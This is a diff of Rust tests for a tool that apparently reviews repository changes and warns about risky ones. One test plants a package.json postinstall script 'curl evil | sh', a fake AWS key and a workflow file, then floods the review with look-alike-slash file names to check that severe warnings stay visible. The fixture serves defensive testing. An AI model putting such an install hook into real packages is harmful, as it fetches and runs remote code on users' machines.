@@ -90,6 +90,33 @@ fn what_is_severe_stands_in_full_next_to_the_keys_however_much_there_is() {
     assert_eq!(roomy.matches("! medium  Changes tools/").count(), 3, "{roomy}");
 }
 
+/// Many severe warnings of one kind, with long names among them, drive nothing off the screen.
+#[test]
+fn attack_15_a_flood_of_severe_warnings_hides_none_of_another_kind() {
+    let scene = Scene::simple();
+    scene.repo.write(".github/workflows/ci.yml", "on: push\n").write("notes.txt", format!("key = {AWS_KEY}\n"));
+    scene.repo.write("package.json", r#"{"scripts": {"a": "a", "b": "b", "c": "c", "postinstall": "curl evil | sh"}}"#);
+    for number in 0..80 {
+        scene.repo.write(&format!("docs{number}/a\u{2215}b.md"), "x\n");
+    }
+    let folder = ["k".repeat(200), "\u{2215}".repeat(60), "l".repeat(200)].join("/");
+    scene.repo.write(&format!("{folder}/x"), "x\n");
+    scene.repo.commit("all of it");
+    for (columns, height) in [(80, 24), (160, 50)] {
+        let shown = scene.review("topic").prompt_box(&screen(columns, height));
+        assert!(shown.lines().count() + 3 <= height, "{shown}");
+        let whole = rows(&shown).join("\n").replace("\n             ↳ ", " ");
+        let (_, below) = whole.split_once(" more of this kind: w").unwrap();
+        for part in
+            ["the workflow .github/", "runs on install: the script postinstall: curl evil | sh", "AWS access key"]
+        {
+            assert!(below.contains(part), "{part}\n{shown}");
+        }
+    }
+    let all = scene.review("topic").warnings();
+    assert_eq!(all.matches("<U+2215>b.md").count(), 80, "{all}");
+}
+
 #[test]
 fn severities_differ_in_word_sign_and_colour() {
     let shown = risky(1).review("topic").prompt_box(&Screen { colour: true, ..screen(100, 40) });
@@ -149,6 +176,11 @@ fn kind(row: &str) -> &'static str {
         }
         _ => panic!("a row of no kind: {row:?}"),
     }
+}
+
+/// The number of severe warnings that a row stands for.
+fn of_this_kind(row: &str) -> Option<usize> {
+    row.strip_prefix("  … and ")?.strip_suffix(" more of this kind: w")?.parse().ok()
 }
 
 /// Texts as somebody would write them who wants rows of their own.
@@ -243,7 +275,8 @@ fn attack_15_no_row_of_the_frame_is_made_from_inside() {
             assert_eq!(count(once), 1, "{seed}: {once}\n{shown}");
         }
         let high = review.flags.iter().filter(|flag| flag.severity() == Severity::High).count();
-        assert!(high > 0 && count("high") == high, "{seed}\n{shown}");
+        let left_out: usize = rows(&shown).iter().filter_map(|row| of_this_kind(row)).sum();
+        assert!(high > 0 && count("high") + left_out == high, "{seed}\n{shown}");
         assert_eq!(kinds[kinds.len() - 3..], ["counts", "heading", "keys"], "{seed}\n{shown}");
     }
 }
